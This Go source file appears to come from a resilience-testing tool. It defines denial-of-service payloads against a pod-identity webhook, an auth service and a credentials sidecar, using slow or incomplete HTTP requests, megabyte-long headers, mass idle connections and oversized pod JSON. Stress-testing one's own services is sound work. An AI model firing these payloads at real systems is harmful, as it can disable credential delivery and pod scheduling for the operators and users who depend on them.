package main

import (
	"fmt"
	"strings"
)

// attacks are all, by their names.
func attacks() map[string]attack {
	return map[string]attack{
		// At the webhook.
		"bodies":     hold{connections: 40, encrypted: true, text: post("/pods/enabled", 7_300_000, "", 7_299_999)},
		"containers": reviews{workers: 40, object: pod("", `"containers":`+list("{}", 1_500_000))},
		"quantity":   reviews{workers: 40, object: pod("", `"containers":[{"name":"app"}],"overhead":{"cpu":"`+strings.Repeat("9", 3_000_000)+`"}`)},
		"statuses":   reviews{workers: 40, object: withStatuses()},
		"skip":       reviews{workers: 40, object: skipping(60_000, 1990)},
		"handshakes": handshakes{workers: 50},
		"idle":       hold{connections: 1000, encrypted: true},
		// At the webhook, as a user who may create pods.
		"tolerations": pods{workers: 4, object: pod("", `"containers":[{"name":"app","image":"app"}],"tolerations":`+list("{}", 990_000))},
		"name":        pods{workers: 4, object: pod(`"name":"`+strings.Repeat("n", 2_900_000)+`"`, `"containers":[{"name":"app","image":"app"}]`)},
		"skipping":    pods{workers: 4, object: skipping(500_000, 1500)},
		// At ports without TLS.
		"headers": hold{connections: 300, text: "GET / HTTP/1.1\r\nHost: x\r\nA: " + strings.Repeat("a", 1_000_000)},
		// At the auth service, the latter two from many addresses.
		"many-idle":   hold{connections: 7500, encrypted: true},
		"many-bodies": hold{connections: 1400, addresses: 20, encrypted: true, text: post("/clusters/green/assume-role-for-pod-identity", 32_000, header(14_000), 31_000)},
		"slow-bodies": hold{connections: 1000, addresses: 5, encrypted: true, drip: true, text: post("/clusters/green/assume-role-for-pod-identity", 2_000, "", 10)},
		// At the sidecar.
		"silent":     hold{connections: 700},
		"half-8k":    hold{connections: 700, text: "GET /v1/credentials HTTP/1.1\r\nHost: 127.0.0.1\r\n" + header(8_000)},
		"half-15k":   hold{connections: 700, text: "GET /v1/credentials HTTP/1.1\r\nHost: 127.0.0.1\r\n" + header(15_000)},
		"lines-8k":   hold{connections: 700, text: "GET /v1/credentials HTTP/1.1\r\nHost: 127.0.0.1\r\n" + strings.Repeat("A: b\r\n", 1300)},
		"whole-300k": hold{connections: 700, text: "GET /v1/credentials HTTP/1.1\r\nHost: 127.0.0.1\r\n" + header(300_000) + "\r\n\r\n"},
		"metrics":    hold{connections: 60, text: "GET /metrics HTTP/1.1\r\nHost: x\r\n" + header(1_000_000)},
		"probes":     hold{connections: 500, text: "GET /readyz HTTP/1.1\r\nHost: "},
		// From as many addresses as the pods of a large node have.
		"many-probes": hold{connections: 500, addresses: 100, text: "GET /readyz HTTP/1.1\r\nHost: "},
	}
}

// list is a JSON list of n items.
func list(item string, n int) string {
	return "[" + strings.TrimSuffix(strings.Repeat(item+",", n), ",") + "]"
}

// pod is one with these members in its metadata and its spec.
func pod(metadata, spec string) string {
	if metadata == "" {
		metadata = `"generateName":"attack-"`
	}
	return `{"apiVersion":"v1","kind":"Pod","metadata":{` + metadata + `},"spec":{` + spec + `}}`
}

// skipping names containers that do not exist, for each that does.
func skipping(bytes, containers int) string {
	names := strings.Repeat("x,", bytes/2)
	return pod(`"generateName":"attack-","annotations":{"podidentity.dev/skip-containers":"`+names+`"}`,
		`"containers":`+list(`{"name":"a","image":"app"}`, containers))
}

// withStatuses is as expensive to decode as the bounds of the webhook allow.
func withStatuses() string {
	object := pod("", `"containers":`+list("{}", 1990))
	return strings.TrimSuffix(object, "}") + `,"status":{"containerStatuses":` + list("{}", 60_000) + "}}"
}

// header is a field of that size which does not end.
func header(bytes int) string { return "X-Filler: " + strings.Repeat("a", bytes) }

// post is a request that claims to have a body of so many bytes, and has fewer.
func post(path string, claimed int, header string, sent int) string {
	if header != "" {
		header += "\r\n"
	}
	return fmt.Sprintf("POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n%s\r\n", path, claimed, header) +
		`{"token":"` + strings.Repeat("a", max(0, sent-10))
}
